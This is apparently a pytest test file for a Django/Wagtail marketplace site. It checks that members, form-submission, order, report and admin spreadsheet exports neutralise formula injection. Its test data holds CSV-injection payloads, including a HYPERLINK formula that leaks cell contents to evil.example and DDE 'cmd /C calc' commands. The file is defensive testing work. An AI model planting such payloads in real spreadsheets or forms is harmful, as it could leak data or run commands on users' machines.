"""Every spreadsheet the site hands out neutralises formulas (issue 21 item 4): text typed by a
visitor, a buyer, a producer or a mentor that starts with = + - @ (or a tab or carriage return)
comes out with a leading apostrophe, so Excel or LibreOffice shows it instead of running it.

Each export is fed the same hostile values (config.spreadsheets.FORMULA_STARTS)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from oscar.apps.analytics.models import ProductRecord, UserRecord

from accounts.models import User
from config.spreadsheets import FORMULA_STARTS, spreadsheet_response, spreadsheet_text
from mentoring.models import OrgUnitRole
from tests.factories.cms import make_site_pages
from tests.factories.marketplace import make_product
from tests.factories.mentoring import make_lao_cai, make_member
from tests.factories.orders import make_order

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Xem")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PHONE = "+cmd|'/C calc'!A0"  # a member's phone is 20 characters at most


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_neutralised(rows, values=HOSTILE):
    cells = [cell for row in rows for cell in row]
    for value in values:
        assert value not in cells, f"{value!r} came out raw"
        assert "'" + value in cells, f"{value!r} is missing"
    # Nothing else a spreadsheet would run either.
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_gets_an_apostrophe_and_other_values_stay(value):
    assert spreadsheet_text(value) == "'" + value
    assert spreadsheet_text("Lý Thị Mai") == "Lý Thị Mai"
    assert spreadsheet_text(-5) == -5  # a number is a number, not a formula
    assert spreadsheet_text(None) is None


def test_the_members_csv_and_xlsx_neutralise_names_and_phones():
    tree = make_lao_cai()
    for name in HOSTILE:
        make_member(unit=tree["y_ty"], name=name, specialty_product=name)
    make_member(unit=tree["y_ty"], name="Tráng A Lử", phone=PHONE)
    mentor = User.objects.create_user(email="mentor@example.com", password="x" * 12)
    mentor.groups.add(Group.objects.get(name="Mentors"))
    OrgUnitRole.objects.create(user=mentor, org_unit=tree["bat_xat"])
    client = Client()
    client.force_login(mentor)
    url = reverse("mentoring_members:index")

    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    _assert_neutralised(_rows(b"".join(response.streaming_content)), values=[*HOSTILE, PHONE])

    response = client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]  # no formula at all
    assert {"'" + value for value in HOSTILE[:4]} <= {cell.value for cell in cells}
    assert "'" + PHONE in {cell.value for cell in cells}


def test_the_sell_forms_submissions_csv_neutralises_what_visitors_typed():
    pages = make_site_pages()
    form = pages["form"]
    for name, phone in zip(HOSTILE[:3], HOSTILE[3:], strict=True):
        response = Client().post(form.url, {"ho_va_ten": name, "so_dien_thoai": phone})
        assert response.status_code == 200
    assert form.get_submission_class().objects.filter(page=form).count() == 3
    editor = Client()
    editor.force_login(User.objects.create_superuser(email="editor@example.com", password="x" * 12))
    url = reverse("wagtailforms:list_submissions", args=[form.pk])

    response = editor.get(url, {"export": "csv"})
    assert response.status_code == 200
    typed = [value.strip() for value in HOSTILE]  # the form strips leading tabs and returns
    _assert_neutralised(_rows(b"".join(response.streaming_content)), values=typed)


def test_the_dashboards_order_csv_and_order_report_neutralise_buyers_names():
    buyer = User.objects.create_user(
        email="lan@example.com", password="x" * 12, first_name=HOSTILE[0], last_name=""
    )
    order = make_order(items=[(make_product(), 1)], user=buyer)
    order.shipping_address.first_name = HOSTILE[2]
    order.shipping_address.last_name = ""
    order.shipping_address.save()
    staff = User.objects.create_superuser(email="boss@example.com", password="x" * 12)
    client = Client()
    client.force_login(staff)

    response = client.get(reverse("dashboard:order-list"), {"response_format": "csv"})
    assert response.status_code == 200
    _assert_neutralised(_rows(response.content), values=[HOSTILE[2]])

    response = client.get(
        reverse("dashboard:reports-index"),
        {"report_type": "order_report", "download": "on", "date_from": "", "date_to": ""},
    )
    assert response["Content-Type"].startswith("text/csv")
    _assert_neutralised(_rows(response.content), values=[HOSTILE[0]])


REPORTS = [
    "order_report",
    "product_analytics",
    "user_analytics",
    "open_baskets",
    "submitted_baskets",
    "conditional-offers",
    "vouchers",
]


def test_every_dashboard_report_neutralises_what_producers_and_buyers_typed():
    """Every report of Oscar's dashboard writes through the same writer (marketplace.loading):
    a producer's product title, a buyer's name."""
    buyer = User.objects.create_user(
        email="lan@example.com", password="x" * 12, first_name=HOSTILE[1], last_name=""
    )
    product = make_product(title=HOSTILE[3])
    make_order(items=[(product, 1)], user=buyer)
    # Oscar's analytics receivers may have recorded the order already.
    ProductRecord.objects.update_or_create(product=product, defaults={"num_views": 3})
    UserRecord.objects.update_or_create(user=buyer, defaults={"num_product_views": 3})
    client = Client()
    client.force_login(User.objects.create_superuser(email="boss@example.com", password="x" * 12))
    seen = []
    for code in REPORTS:
        response = client.get(
            reverse("dashboard:reports-index"), {"report_type": code, "download": "on"}
        )
        assert response["Content-Type"].startswith("text/csv"), code
        rows = _rows(response.content)
        _assert_neutralised(rows, values=[])
        seen += [cell for row in rows for cell in row]
    assert "'" + HOSTILE[3] in seen and "'" + HOSTILE[1] in seen


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_our_own_tables_neutralise_headings_and_cells(fmt):
    """The writer of the mentoring dashboard and the quarterly reports (unit names are typed
    by staff, headings may carry a unit's name)."""
    response = spreadsheet_response(
        filename="bang",
        headings=[HOSTILE[0], "Số"],
        rows=[[value, 3] for value in HOSTILE],
        fmt=fmt,
    )
    if fmt == "csv":
        rows = _rows(response.content)
        _assert_neutralised(rows)
        assert rows[1][1] == "3"
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert sheet["A1"].value == "'" + HOSTILE[0]
        assert sheet["B2"].value == 3


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailredirects:index",
    ],
)
def test_wagtails_reports_neutralise_page_titles_and_stay_for_admins(url_name):
    """A district editor may title a page "=HYPERLINK(…)"; provincial staff export the
    admin's reports (cms.report_views)."""
    boss = User.objects.create_superuser(email="boss@example.com", password="x" * 12)
    page = make_site_pages()["standard"]
    page.title = HOSTILE[0]
    page.locked, page.locked_by, page.locked_at = True, boss, timezone.now()
    page.save_revision(user=boss).publish(user=boss)
    page.save()
    assert Client().get(reverse(url_name)).status_code == 302  # to the admin's sign-in
    client = Client()
    client.force_login(boss)
    response = client.get(reverse(url_name), {"export": "csv"})
    assert response.status_code == 200
    rows = _rows(b"".join(response.streaming_content))
    _assert_neutralised(rows, values=[])
    if url_name in ("wagtailadmin_reports:locked_pages", "wagtailadmin_reports:aging_pages"):
        assert "'" + HOSTILE[0] in [cell for row in rows for cell in row]


def test_the_site_history_export_neutralises_page_titles():
    """Site history is served by mentoring.history_views (scoped to the viewer's units): its
    export goes through the same neutralising mixin."""
    boss = User.objects.create_superuser(email="boss@example.com", password="x" * 12)
    page = make_site_pages()["standard"]
    page.title = HOSTILE[0]
    page.save_revision(user=boss, log_action=True).publish(user=boss)
    client = Client()
    client.force_login(boss)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in _rows(b"".join(response.streaming_content)) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
